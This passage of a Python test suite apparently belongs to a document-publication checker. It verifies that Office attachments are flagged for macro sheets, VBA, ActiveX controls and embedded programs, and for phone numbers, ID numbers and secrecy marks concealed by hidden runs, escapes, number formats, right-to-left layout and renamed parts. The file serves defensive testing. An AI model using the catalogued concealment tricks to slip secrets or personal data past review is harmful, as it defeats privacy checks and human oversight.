    """An XLSX whose workbook relates, inside the package, to `part` holding `body` by relationship type `kind`."""
    with zipfile.ZipFile(io.BytesIO(xlsx_with("名单"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    relationships = parts["xl/_rels/workbook.xml.rels"]
    assert isinstance(relationships, bytes)
    relationship = f'<Relationship Id="rIdM" Type="{kind}" Target="{part}"/>'
    parts["xl/_rels/workbook.xml.rels"] = relationships.decode().replace("</Relationships>", relationship + "</Relationships>")
    parts[f"xl/{part}"] = body
    return office_zip(parts)


@pytest.mark.parametrize(("kind", "part", "said"), [
    ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", "Excel 4.0 宏表"),
    ("http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet", "其他/表.xml", "Excel 4.0 宏表"),
    (f"{_TYPES}control", "activeX/activeX1.xml", "ActiveX 控件"),
])
def test_a_workbook_with_a_macro_sheet_or_a_control_is_an_error(site, kind, part, said):
    """An Excel 4.0 macro sheet runs its formulas as macros (EXEC, CALL) as VBA would, and an ActiveX control is a
    program: GK317 wherever the part is kept, since the relationship's type is what Excel goes by."""
    site.attach("a.xlsx", _xlsx_relating(kind, part, _MACRO_SHEET))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert said in problem.message and problem.is_error


@pytest.mark.parametrize(("sheets", "said"), [
    ((("名单", 0), ("Macro1", 1)), "Excel 4.0 宏表（XLM）"),
    ((("Module1", 6),), "宏（Excel 5.0 的 VBA 模块）"),
    ((("名单", 0), ("图表", 2)), None),
])
def test_an_old_workbook_with_a_macro_sheet_is_an_error(site, sheets, said):
    """An XLS's sheet list (BOUNDSHEET records in its Workbook stream) says which sheets are macro sheets; its text is
    not read, but its macro sheets are found, attached or zipped."""
    from ..samples import xls_with_sheets

    site.attach("a.xls", xls_with_sheets(*sheets))
    site.attach("b.zip", office_zip({"表/汇总.xls": xls_with_sheets(*sheets)}))
    site.item(attachments=[{"title": "名单", "file": "a.xls"}, {"title": "材料", "file": "b.zip"}])
    found = sorted(problem.message for problem in site.problems(privacy.SCRIPT.code))
    assert [said in message for message in found] == ([True, True] if said else [])
    assert not said or any(f"汇总.xls”中的{said}" in message for message in found)


@pytest.mark.parametrize("stream", ["WORKBOOK", "workbook", "BOOK"])
def test_an_old_workbooks_stream_is_found_by_its_name_in_any_case(site, stream):
    """A compound file's names compare case-insensitively (MS-CFB 2.6.4): Excel opens a stream named WORKBOOK as its
    Workbook. Looked for as written, its macro sheet passed and the file was published."""
    from ..samples import xls_with_sheets

    site.attach("a.xls", xls_with_sheets(("名单", 0), ("Auto_Open", 1), stream=stream))
    site.item(attachments=[{"title": "名单", "file": "a.xls"}])
    [problem] = site.problems(privacy.SCRIPT.code)
    assert "Excel 4.0 宏表（XLM）" in problem.message and problem.is_error


_OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(120)


@pytest.mark.parametrize(("data", "said"), [
    (_OLE_HEAD + "_vba_Project".encode("utf-16-le") + bytes(64), "宏（VBA）"),
    (_OLE_HEAD + "\x01OLE10NATıVE".encode("utf-16-le") + bytes(64) + b"\x02\x00a.exe\x00C:\\a.exe\x00" + bytes(40),
     "嵌入的程序或脚本“a.exe”"),
    # A workbook's name in a file olefile cannot open: Excel may open it all the same, its sheets unread.
    (_OLE_HEAD + "WorkBook".encode("utf-16-le") + bytes(600), "无法确认有无宏表的工作簿（文件结构已损坏"),
])
def test_what_an_ole_file_runs_is_found_by_its_names_in_any_case(data, said):
    """The VBA storage and a packaged program are found under any case of their names (and letters that fold to
    them, ı for I), as Office finds them; a workbook olefile cannot read is refused, not passed in silence (GK317)."""
    from gongkai.readers import core

    reading = core.Reading()
    core.note_programs(data, "doc", "材料.zip 中的“汇总.doc”：", reading)
    assert [said in ran for ran in reading.scripts] == [True], reading.scripts


def test_an_encrypted_old_workbook_says_its_macro_sheets_went_unchecked(site):
    from ..samples import ole_file

    workbook = b"\x09\x08\x10\x00" + bytes(16) + b"\x2f\x00\x06\x00" + bytes(6) + b"\x85\x00\x0a\x00" + bytes(10)
    site.attach("b.zip", office_zip({"汇总.xls": ole_file({"Workbook": workbook})}))
    site.item(attachments=[{"title": "材料", "file": "b.zip"}])
    assert any("已加密，无法检查有无宏表" in problem.message for problem in site.problems(privacy.NOT_SCANNED.code))


def test_an_old_workbook_whose_sheet_list_runs_past_the_records_read_says_so(monkeypatch):
    """The sheet list is read for 100,000 records at most: a macro sheet listed after as many padding records (405 KB)
    went unreported, the walk ending in silence. No workbook Excel writes has as many: it is refused as a macro sheet
    would be (GK317), with a message that says why."""
    import struct

    from gongkai.readers import core

    from ..samples import ole_file

    monkeypatch.setattr(core, "_MAX_RECORDS", 200)  # the sample writer holds a small file only
    macro_sheet = struct.pack("<HH", 0x0085, 6) + bytes(4) + bytes([0, 1])
    stream = struct.pack("<HH", 0x1234, 0) * 200 + macro_sheet + struct.pack("<HH", 0x000A, 0)
    assert core.workbook_sheets(ole_file({"Workbook": stream})) == {core._UNFINISHED}
    reading = core.Reading()
    core.note_programs(ole_file({"Workbook": stream}), "xls", "材料.zip 中的“汇总.xls”：", reading)
    assert reading.scripts == ["材料.zip 中的“汇总.xls”中的无法确认有无宏表的工作簿（工作簿的全局记录超过 200 条，没有读完）"]
    shorter = struct.pack("<HH", 0x1234, 0) * 190 + macro_sheet + struct.pack("<HH", 0x000A, 0)
    assert core.workbook_sheets(ole_file({"Workbook": shorter})) == {1}


_RECORD = st.tuples(st.sampled_from([0x0085, 0x0018, 0x00FC, 0x0042, 0x1234]), st.binary(max_size=40),
                    st.integers(0, 7))


@settings(max_examples=150, deadline=None)
@given(records=st.lists(_RECORD, max_size=30), tail=st.binary(max_size=64))
def test_an_old_workbooks_sheet_types_are_those_its_sheet_list_gives(records, tail):
    """Whatever records a Workbook stream holds before its globals end (EOF), the sheet types found are those of its
    BOUNDSHEET records; what follows the end, garbage included, is never read."""
    import struct

    from gongkai.readers.core import workbook_sheets

    from ..samples import ole_file

    stream, expected = b"", set()
    for kind, body, sheet_type in records:
        if kind == 0x0085:
            body = bytes(4) + bytes([0, sheet_type]) + body
            expected.add(sheet_type)
        stream += struct.pack("<HH", kind, len(body)) + body
    found = workbook_sheets(ole_file({"Workbook": stream + struct.pack("<HH", 0x000A, 0) + tail}))
    assert found == expected


@settings(max_examples=100, deadline=None)
@given(data=st.binary(max_size=600))
def test_any_bytes_after_an_ole_signature_never_raise(data):
    from gongkai.readers.core import OLE, workbook_sheets

    workbook_sheets(OLE + "Workbook".encode("utf-16-le") + data)


@pytest.mark.parametrize("digit, secret", [("0038", "5BC6"), ("F038", "5BC6"), ("0038", "F0FF")])
def test_characters_word_draws_from_a_code_are_read_in_their_place(site, digit, secret):
    """`<w:sym w:char="0038"/>` is a character Word draws in the run (F000–F0FF: the symbol-font range, code −
    F000): written so, one digit of a phone number or the 密 of 机密★ hid them from the scans."""
    drawn = {"5BC6": "密", "F0FF": "ÿ"}[secret]
    paragraph = (f'<w:p><w:r><w:t>联系电话1380013</w:t></w:r><w:r><w:sym w:font="Arial" w:char="{digit}"/></w:r>'
                 f'<w:r><w:t>000 机</w:t></w:r><w:r><w:sym w:font="SimSun" w:char="{secret}"/></w:r>'
                 "<w:r><w:t>★</w:t></w:r></w:p>")
    mobiles, marks = findings(site, "a.docx", _docx_with_xml(paragraph))
    assert any(pii.mask("13800138000") in p.message for p in mobiles)
    assert any("机密★" in p.message for p in marks) == (drawn == "密")


def test_spreadsheet_escapes_are_read_as_the_characters_they_stand_for(site):
    """`_xHHHH_` in a workbook's string is one character Excel shows (ST_Xstring): a phone number and 绝密★
    written with them, in a shared string and in a cell's own string, passed the scans."""
    sheet = (f'<worksheet {_X_MAIN}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
             '<c r="B1" t="inlineStr"><is><t>机_x5BC6_★</t></is></c></row></sheetData></worksheet>')
    data = office_zip({
        "[Content_Types].xml": _XLSX_TYPES,
        "_rels/.rels": _XLSX_RELS,
        "xl/workbook.xml": f'<workbook {_X_MAIN} {_X_REL}><sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _XLSX_WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": f'<sst {_X_MAIN}><si><t>电话1380013_x0038_000 绝_x5BC6_★</t></si></sst>',
    })
    mobiles, marks = findings(site, "a.xlsx", data)
    assert any(pii.mask("13800138000") in p.message for p in mobiles)
    messages = " ".join(p.message for p in marks)
    assert "绝密★" in messages and "机密★" in messages


_X_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_X_REL = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_XLSX_TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
               '<Default Extension="xml" ContentType="application/xml"/>'
               '<Override PartName="/xl/workbook.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
               '<Override PartName="/xl/worksheets/sheet1.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
               '<Override PartName="/xl/sharedStrings.xml" '
               'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
_XLSX_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
              f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_XLSX_WORKBOOK_RELS = ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
                       f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>')


def _one_string_workbook(string: str, shared: bool) -> bytes:
    """A workbook whose one cell holds `string` (the inside of <si> or <is>), as a shared string or its own."""
    cell = '<c r="A1" t="s"><v>0</v></c>' if shared else f'<c r="A1" t="inlineStr"><is>{string}</is></c>'
    return office_zip({
        "[Content_Types].xml": _XLSX_TYPES,
        "_rels/.rels": _XLSX_RELS,
        "xl/workbook.xml": f'<workbook {_X_MAIN} {_X_REL}><sheets><sheet name="名单" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _XLSX_WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": f'<worksheet {_X_MAIN}><sheetData><row r="1">{cell}</row></sheetData></worksheet>',
        "xl/sharedStrings.xml": f"<sst {_X_MAIN}><si>{string}</si></sst>" if shared else f"<sst {_X_MAIN}/>",
    })


@pytest.mark.parametrize("where", ["shared", "inline"])
def test_a_cells_phonetic_guide_is_read_apart_from_it(site, where):
    """A cell that is only 机密, with a phonetic guide (`rPh`, shown above the cell if at all): read joined, 机密jimi
    was no mark standing alone (rt45 F2)."""
    _, marks = findings(site, "a.xlsx", _one_string_workbook('<t>机密</t><rPh sb="0" eb="2"><t>jimi</t></rPh>', where == "shared"))
    assert any("机密" in p.message for p in marks), [p.message for p in site.problems()]


@pytest.mark.parametrize("suffix", [".dat", ".bin", ""])
def test_a_part_typed_as_xml_is_read_as_xml_whatever_its_name(site, suffix):
    """Word and python-docx find the main part by relationship and content type: named `word/document.dat`, it was
    read as a text file with its tags, and a number split across two runs (`1390000|0001`) was never joined."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    main = f"word/document{suffix}"
    number = planted(1)
    document = parts.pop("word/document.xml")
    assert isinstance(document, bytes)
    parts[main] = document.decode().replace(
        "<w:sectPr", f"<w:p><w:r><w:t>联系电话{number[:7]}</w:t></w:r><w:r><w:t>{number[7:]}</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密★</w:t></w:r></w:p><w:sectPr", 1)
    parts[f"word/_rels/document{suffix}.rels"] = parts.pop("word/_rels/document.xml.rels")
    for name in ("[Content_Types].xml", "_rels/.rels"):
        text = parts[name]
        assert isinstance(text, bytes)
        parts[name] = text.decode().replace("word/document.xml", main)
    mobiles, marks = findings(site, "a.docx", office_zip(parts))
    assert any(pii.mask(number) in p.message for p in mobiles)
    assert any("机密★" in p.message for p in marks)


def _docx_main_named(main: str, extra: dict[str, str] | None = None) -> tuple[bytes, str]:
    """A python-docx document whose main part is named `main` (its .rels and content type pointing there), holding a
    phone number split across two runs and 机密★; `extra` parts added first. Returns the file and the number."""
    with zipfile.ZipFile(io.BytesIO(docx_with("正文", "无"))) as source:
        parts: dict[str, str | bytes] = {**(extra or {}), **{name: source.read(name) for name in source.namelist()}}
    number = planted(1)
    document = parts.pop("word/document.xml")
    assert isinstance(document, bytes)
    parts[main] = document.decode().replace(
        "<w:sectPr", f"<w:p><w:r><w:t>联系电话{number[:7]}</w:t></w:r><w:r><w:t>{number[7:]}</w:t></w:r></w:p>"
        "<w:p><w:r><w:t>机</w:t></w:r><w:r><w:t>密★</w:t></w:r></w:p><w:sectPr", 1)
    folder, name = main.rsplit("/", 1)
    parts[f"{folder}/_rels/{name}.rels"] = parts.pop("word/_rels/document.xml.rels")
    for part in ("[Content_Types].xml", "_rels/.rels"):
        text = parts[part]
        assert isinstance(text, bytes)
        parts[part] = text.decode().replace("word/document.xml", main)
    return office_zip(parts), number


@pytest.mark.parametrize("main, extra", [
    ("word/calcChain.xml", {}), ("word/document.ttf", {}), ("word/itemProps1.xml", {}),
    ("word/printerSettings1.bin", {}), ("word/font1.odttf", {}), ("word/Document.XML", {}),
    # any part named …sharedStrings.xml was passed over once the package held another one
    ("word/sharedStrings.xml", {"xl/sharedStrings.xml": f'<sst {_X_MAIN}><si><t>x</t></si></sst>'}),
])
def test_the_main_document_is_read_whatever_it_is_named(site, main, extra):
    """Word and python-docx find the main document by relationship and content type: named as a part that holds no
    text (a calculation chain, custom XML properties, printer settings, a font), it was passed over by its name, the
    file was published without a word (no finding, no GK305)."""
    data, number = _docx_main_named(main, extra)
    import docx

    assert "机密★" in "".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)  # what Word's readers show
    mobiles, marks = findings(site, "a.docx", data)
    assert any(pii.mask(number) in p.message and "正文" in p.message for p in mobiles), [p.message for p in mobiles]
    assert any("机密★" in p.message for p in marks)


def test_parts_typed_as_holding_no_text_are_passed_over_without_a_warning(site):
    """A calculation chain, custom XML properties and a font, typed as such and reached only as such, are not read:
    neither findings nor GK305 for what no reader shows."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row>'
    data = _xlsx_raw(rows)
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    types = parts["[Content_Types].xml"]
    assert isinstance(types, bytes)
    parts["[Content_Types].xml"] = types.decode().replace("</Types>", (
        '<Override PartName="/xl/calcChain.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/>'
        '<Default Extension="odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/>'
        "</Types>"))
    parts["xl/calcChain.xml"] = f'<calcChain {_X_MAIN}><c r="A13912345678" i="1"/></calcChain>'
    parts["xl/fonts/font1.odttf"] = b"\x8a\x01 13912345678 \xff" * 4
    site.attach("a.xlsx", office_zip(parts))
    site.item(attachments=[{"title": "材料", "file": "a.xlsx"}])
    assert [p.code for p in site.check() if p.path.endswith("a.xlsx") or p.code in ("GK303", "GK305")] == []


def _xlsx_raw(rows: str, *, before: str = "", styles: str = "", workbook: str = "") -> bytes:
    """A workbook of one sheet 名单 written by hand: `rows` inside its sheetData, `before` ahead of it (sheet views,
    columns), `styles` the stylesheet's content, `workbook` elements ahead of the sheet list (workbookPr)."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _XLSX_TYPES,
        "_rels/.rels": _XLSX_RELS,
        "xl/workbook.xml": f'<workbook {_X_MAIN} {_X_REL}>{workbook}<sheets><sheet name="名单" sheetId="1" r:id="rId1"/>'
                           "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": _XLSX_WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": f"<worksheet {_X_MAIN}>{before}<sheetData>{rows}</sheetData></worksheet>",
    }
    if styles:
        parts["xl/styles.xml"] = f"<styleSheet {_X_MAIN}>{styles}</styleSheet>"
    return office_zip(parts)


@pytest.mark.parametrize("formula", ["139*100000000+12345678", "1391234*10000+5678", "(13912345678000)/1000"])
def test_arithmetic_a_workbook_computes_as_it_opens_is_read_as_its_result(site, formula):
    """A formula saved without its result (openpyxl writes none; Excel and LibreOffice compute it on opening) shows
    13912345678: read as its constants, `139*100000000+12345678` was no phone number."""
    mobiles, _ = findings(site, "a.xlsx", xlsx_with("=" + formula))
    assert any(pii.mask("13912345678") in p.message and "工作表“名单”第 2 行" in p.message for p in mobiles)
    assert site.problems(privacy.NOT_SCANNED.code) == []


@pytest.mark.parametrize("formula", ['=SUBSTITUTE("139x12345678","x","")', '=MID("913912345678",2,11)', "=A1&B1"])
def test_a_formula_without_its_computed_result_is_named_for_the_reviewer(site, formula):
    site.attach("a.xlsx", xlsx_with(formula))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "工作表“名单”" in problem.message and "第 2 行的公式没有保存计算结果" in problem.message


def test_formulas_with_their_computed_results_are_read_without_a_warning(site):
    """What Excel saves: every formula with its last result (`<v>`), an empty text result as t="str" and `<v/>`."""
    rows = ('<row r="1"><c r="A1"><v>3</v></c><c r="B1"><f>SUM(A1:A1)</f><v>3</v></c><c r="C1" t="str"><f>IF(A1&gt;5,"x","")</f>'
            '<v></v></c></row><row r="2"><c r="A2"><f t="shared" ref="A2:A3" si="0">A1+1</f><v>4</v></c></row>'
            '<row r="3"><c r="A3"><f t="shared" si="0"/><v>5</v></c></row>')
    site.attach("a.xlsx", _xlsx_raw(rows))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    assert site.problems(privacy.NOT_SCANNED.code) == []


def test_many_formulas_without_results_are_named_once_a_sheet(site):
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>LEN("x")</f></c></row>' for n in range(3, 9))
    site.attach("a.xlsx", _xlsx_raw(rows))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "第 3 行等 6 个公式没有保存计算结果" in problem.message


def _workbook(cells: dict[str, object], formats: dict[str, str] | None = None, *, right_to_left: bool = False,
              hidden_column: str = "", hidden_row: int = 0) -> bytes:
    """A workbook saved by openpyxl, as the red team built theirs: its cells, their number formats, a layout."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "名单"
    for name, value in cells.items():
        sheet[name] = value
    for name, code in (formats or {}).items():
        sheet[name].number_format = code
    sheet.sheet_view.rightToLeft = right_to_left
    if hidden_column:
        sheet.column_dimensions[hidden_column].hidden = True
    if hidden_row:
        sheet.row_dimensions[hidden_row].hidden = True
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("value, code", [(13912345678000, "0,"), (13912345678.4, "0"), (139123456.78, "0%")])
def test_a_format_that_changes_the_digits_shown_is_applied(site, value, code):
    """`0,` divides by a thousand, `0` rounds, `0%` multiplies by a hundred: the stored value is no phone number,
    what the cell shows is; the row is named once, as displayed."""
    mobiles, _ = findings(site, "a.xlsx", _workbook({"A1": "电话", "B1": value}, {"B1": code}))
    assert [p.message for p in mobiles if pii.mask("13912345678") in p.message and "第 1 行（按显示的样子）" in p.message]
    assert site.problems(privacy.NOT_SCANNED.code) == []


@pytest.mark.parametrize("cells, formats", [
    ({"A1": "身份证号", "B1": 32939}, {"B1": '"110101"yyyymmdd"0038"'}),
    ({"A1": "110101", "B1": dt.date(1990, 3, 7), "C1": "0038"}, {"B1": "yyyymmdd"}),
])
def test_a_date_format_that_writes_an_id_number_is_applied(site, cells, formats):
    site.attach("a.xlsx", _workbook(cells, formats))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.ID18.code)
    assert "工作表“名单”第 1 行（按显示的样子）" in problem.message


def test_a_built_in_format_and_the_1904_date_system_are_applied(site):
    styles = ('<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="1"/><xf numFmtId="164"/></cellXfs>')
    rows = '<row r="1"><c r="A1" s="1"><v>13912345678.4</v></c><c r="B1" s="2"><v>31477</v></c></row>'
    numbers = '<numFmts count="1"><numFmt numFmtId="164" formatCode="&quot;110101&quot;yyyymmdd&quot;0038&quot;"/></numFmts>'
    site.attach("a.xlsx", _xlsx_raw(rows, styles=numbers + styles, workbook='<workbookPr date1904="1"/>'))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    assert site.problems(privacy.MOBILE.code) and site.problems(privacy.ID18.code)


def test_a_format_not_worked_out_on_a_long_number_is_named_for_the_reviewer(site):
    cells: dict[str, object] = {"A1": 13912345678.5, "A2": 0.5, "A3": 45000, "A4": 13912345678}
    site.attach("a.xlsx", _workbook(cells, {"A1": "# ?/?", "A2": "# ?/?", "A3": "0.00E+00", "A4": "0.00E+00"}))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.NOT_SCANNED.code)
    assert "工作表“名单”" in problem.message and "第 1 行等 1 个单元格的数字格式无法自动换算" in problem.message


@pytest.mark.parametrize("cells, formats, layout", [
    ({"A1": "110101", "B1": "5555", "C1": "199003070038"}, {}, {"hidden_column": "B"}),
    ({"A1": "110101", "B1": "5555", "C1": "199003070038"}, {"B1": ";;;"}, {}),
    ({"A1": "110101", "B1": 5555, "C1": "199003070038"}, {"B1": ";;;"}, {}),
    ({"A1": "0038", "B1": "19900307", "C1": "110101"}, {}, {"right_to_left": True}),
])
def test_a_row_is_read_as_displayed_without_hidden_cells_and_in_its_direction(site, cells, formats, layout):
    """A hidden column or a cell whose format shows nothing between an ID number's pieces, or a right-to-left sheet
    that draws its cells in reverse: the reader sees 110101 | 199003070038 in one row."""
    site.attach("a.xlsx", _workbook(cells, formats, **layout))
    site.item(attachments=[{"title": "名单", "file": "a.xlsx"}])
    [problem] = site.problems(privacy.ID18.code)
    assert "工作表“名单”第 1 行（按显示的样子）" in problem.message


def test_an_ordinary_sheet_is_read_once_without_warnings(site):
    """Dates, amounts and percentages under ordinary formats, beside a phone number: one finding, no GK305."""
    cells = {"A1": "张三", "B1": "13912345678", "C1": dt.date(2024, 5, 1), "D1": 1234.5, "E1": 0.25, "F1": "=1+1"}
    mobiles, _ = findings(site, "a.xlsx", _workbook(cells, {"C1": "yyyy-mm-dd", "D1": "#,##0.00", "E1": "0%"}))
    assert len(mobiles) == 1 and "第 1 行" in mobiles[0].message
    assert site.problems(privacy.NOT_SCANNED.code) == []


def _runs(*runs: tuple[str, str]) -> str:
    """A paragraph of runs (text, run properties)."""
    return "<w:p>" + "".join(f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>" for text, properties in runs) + "</w:p>"


@pytest.mark.parametrize("hiding", ["<w:vanish/>", '<w:vanish w:val="true"/>', "<w:specVanish/>", "<w:webHidden/>",
                                    '<w:sz w:val="2"/>'])
def test_text_word_hides_or_draws_too_small_between_a_numbers_pieces_is_read_without(site, hiding):
    """`电话139`, a hidden or 1-point `0000`, `12345678`: Word shows 电话13912345678, and 本件机密★ around a hidden x."""
    body = _runs(("电话139", ""), ("0000", hiding), ("12345678", "")) + _runs(("本件机", ""), ("x", hiding), ("密★", ""))
    mobiles, marks = findings(site, "a.docx", _docx_with_xml(body))
    assert [p.message for p in mobiles] == [m for m in (p.message for p in mobiles) if "正文第 3 段（按显示的样子）" in m]
    assert len(mobiles) == 1 and any("机密★" in p.message and "正文第 4 段（按显示的样子）" in p.message for p in marks)


def test_text_made_hidden_or_small_as_python_docx_writes_it_is_read_without(site):
    import docx
    from docx.shared import Pt

    document = docx.Document()
    for how in ("hidden", "tiny"):
        paragraph = document.add_paragraph()
        for number, text in enumerate(["电话139", "0000", "12345678"]):
            run = paragraph.add_run(text)
            if number == 1 and how == "hidden":
                run.font.hidden = True
            elif number == 1:
                run.font.size = Pt(1)
    out = io.BytesIO()
    document.save(out)
    mobiles, _ = findings(site, "a.docx", out.getvalue())
    places = sorted(p.message.split("）", 1)[1].split("有")[0] for p in mobiles)
    assert places == ["正文第 1 段（按显示的样子）", "正文第 2 段（按显示的样子）"]


def test_visible_text_and_text_switched_back_on_are_read_once(site):
    body = _runs(("电话13912345678", ""), ("备注", '<w:vanish w:val="0"/><w:sz w:val="24"/>')) + _runs(("说明", "<w:vanish/>"))
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(body))
    assert len(mobiles) == 1 and "正文第 3 段有" in mobiles[0].message


@pytest.mark.parametrize("shared", [False, True])
def test_a_rich_text_run_too_small_to_read_in_a_cell_is_read_without(site, shared):
    runs = '<r><t>139</t></r><r><rPr><sz val="1"/></rPr><t>0000</t></r><r><t>12345678</t></r>'
    if shared:
        data = _xlsx_raw('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')
        with zipfile.ZipFile(io.BytesIO(data)) as source:
            parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
        parts["xl/sharedStrings.xml"] = f"<sst {_X_MAIN}><si>{runs}</si></sst>"
        data = office_zip(parts)
    else:
        data = _xlsx_raw(f'<row r="1"><c r="A1" t="inlineStr"><is>{runs}</is></c></row>')
    mobiles, _ = findings(site, "a.xlsx", data)
    assert len(mobiles) == 1 and "工作表“名单”第 1 行（按显示的样子）" in mobiles[0].message


def test_a_right_to_left_paragraph_is_read_as_drawn(site):
    """`<w:bidi/>` gives the paragraph a right-to-left base direction: `5678 1234 139` is drawn 139 1234 5678."""
    mobiles, _ = findings(site, "a.docx", _docx_with_xml("<w:p><w:pPr><w:bidi/></w:pPr><w:r><w:t>5678 1234 139</w:t></w:r></w:p>"))
    assert len(mobiles) == 1 and "正文第 3 段（按显示的样子）" in mobiles[0].message


def test_a_paragraph_left_to_right_or_with_a_run_marked_rtl_is_read_as_stored(site):
    body = ('<w:p><w:pPr><w:bidi w:val="0"/></w:pPr><w:r><w:t>5678 1234 139</w:t></w:r></w:p>'
            "<w:p><w:r><w:rPr><w:rtl/></w:rPr><w:t>5678 1234 139</w:t></w:r></w:p>")
    mobiles, _ = findings(site, "a.docx", _docx_with_xml(body))
    assert mobiles == []


def test_a_table_drawn_right_to_left_is_read_across_its_cells_as_drawn(site):
    """`<w:bidiVisual/>` draws the first column rightmost: 0038 | 19900307 | 110101 shows as an ID number."""
    import docx
    from docx.oxml import parse_xml

    document = docx.Document()
    table = document.add_table(rows=1, cols=3)
    for column, text in enumerate(["0038", "19900307", "110101"]):
        table.cell(0, column).text = text
    table._tbl.tblPr.append(parse_xml('<w:bidiVisual xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'))
    out = io.BytesIO()
    document.save(out)
    site.attach("a.docx", out.getvalue())
    site.item(attachments=[{"title": "名单", "file": "a.docx"}])
    [problem] = site.problems(privacy.ID18.code)
    assert "正文第 1 个表格第 1 行（按显示的样子）" in problem.message


def _docx_with_styles(paragraph_xml: str, styles_xml: str) -> bytes:
    """`_docx_with_xml` whose styles part gains `styles_xml` (w:style elements)."""
    with zipfile.ZipFile(io.BytesIO(_docx_with_xml(paragraph_xml))) as source:
        parts: dict[str, str | bytes] = {name: source.read(name) for name in source.namelist()}
    styles = parts["word/styles.xml"]
    assert isinstance(styles, bytes)
    parts["word/styles.xml"] = styles.decode().replace("</w:styles>", styles_xml + "</w:styles>")
    return office_zip(parts)


def test_a_character_style_that_hides_text_and_a_right_to_left_paragraph_style_are_followed(site):
    """A run hidden by its character style (also one based on a hiding style), a paragraph right to left by its style;
    a run that switches the style's hiding off is read as shown."""
    styles = ('<w:style w:type="character" w:styleId="Hide"><w:rPr><w:vanish/></w:rPr></w:style>'
              '<w:style w:type="character" w:styleId="Hide2"><w:basedOn w:val="Hide"/></w:style>'
              '<w:style w:type="paragraph" w:styleId="Rtl"><w:pPr><w:bidi/></w:pPr></w:style>')
    body = (_runs(("电话139", ""), ("0000", '<w:rStyle w:val="Hide2"/>'), ("12345678", ""))
            + _runs(("电话139", ""), ("0000", '<w:rStyle w:val="Hide"/><w:vanish w:val="0"/>'), ("12345670", ""))
            + '<w:p><w:pPr><w:pStyle w:val="Rtl"/></w:pPr><w:r><w:t>5678 1234 137</w:t></w:r></w:p>')
    mobiles, _ = findings(site, "a.docx", _docx_with_styles(body, styles))
    places = sorted(p.message.split("）", 1)[1].split("有")[0] for p in mobiles)
    assert places == ["正文第 3 段（按显示的样子）", "正文第 5 段（按显示的样子）"]


def test_many_hidden_column_ranges_cost_little_and_a_hidden_row_is_still_read(site):
    """A sheet may list any number of hidden column ranges, overlapping too: they are merged once, not tried per cell.
    A hidden row is not displayed, but what it stores is read all the same."""
    columns = "<cols>" + '<col hidden="1" min="2" max="16384"/>' * 20_000 + "</cols>"
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}"><v>{n}</v></c></row>' for n in range(1, 2000))
    rows += '<row r="2000" hidden="1"><c r="A2000" t="inlineStr"><is><t>13912345678</t></is></c></row>'
    started = time.process_time()
